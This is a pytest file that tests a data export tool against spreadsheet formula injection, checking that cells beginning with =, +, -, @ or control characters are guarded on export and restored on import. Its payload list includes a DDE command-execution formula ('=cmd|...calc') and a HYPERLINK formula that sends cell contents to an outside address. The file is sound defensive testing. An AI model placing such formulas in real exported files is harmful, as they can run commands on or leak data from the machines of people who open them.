"""Section E of the attacks: cells that a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import pytest

from data.export import export_csv
from data.guard import guard
from tests.attacks.attack_files import HEADER, bring_in, bring_in_cells

FORMULAS = [
    "=1+1", "-3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://127.0.0.1:1/?"&A1,"x")', "=cmd|' /C calc'!A0",
    '"=1"', ";=1", "%0A=1", "+1+1", "'=1", "''=1", " =1", "＝1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_a_formula_is_kept_as_text_guarded_in_the_export_and_read_back(text):
    first = bring_in("date,province,note\n2023-04-01,Kampot," + '"' + guard(text).replace('"', '""') + '"\n')
    assert first.accepted["note"].tolist() == [text]
    exported = export_csv(first.accepted, "complaint")
    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
    assert rows[0]["note"] == f"'{text}"
    assert bring_in(exported).accepted["note"].tolist() == [text]


@pytest.mark.parametrize("text", [text for text in FORMULAS if not text.startswith("'")], ids=repr)
def test_a_formula_that_comes_without_a_guard_is_stored_unchanged(text):
    result = bring_in("date,province,note\n2023-04-01,Kampot," + '"' + text.replace('"', '""') + '"\n')
    assert result.accepted["note"].tolist() == [text]


def test_a_telephone_number_is_never_stored():
    result = bring_in_cells("source_url", "+855 12 555 999")
    assert result.issues["code"].tolist() == ["personal_data"]
    assert not result.issues.astype("str").apply(lambda column: column.str.contains("555")).to_numpy().any()


def test_numbers_stay_numbers():
    result = bring_in("date,lat,lon\n2023-04-01,-33.8688,151.2093\n")
    rows = list(csv.DictReader(io.StringIO(export_csv(result.accepted, "complaint").decode("utf-8-sig"))))
    assert rows[0]["latitude"] == "-33.8688"


def test_the_report_guards_the_cells_and_the_headers_of_the_file():
    result = bring_in(HEADER.strip() + ",=1+1\n" + "a-1,2023-04-01,Kampot,,,3,@x,=2+2\n")
    header, row = csv.reader(io.StringIO(result.report().decode("utf-8-sig")))
    assert header[-1] == "'=1+1"
    assert row[-2:] == ["'@x", "'=2+2"]
    assert row[0] == "accepted"
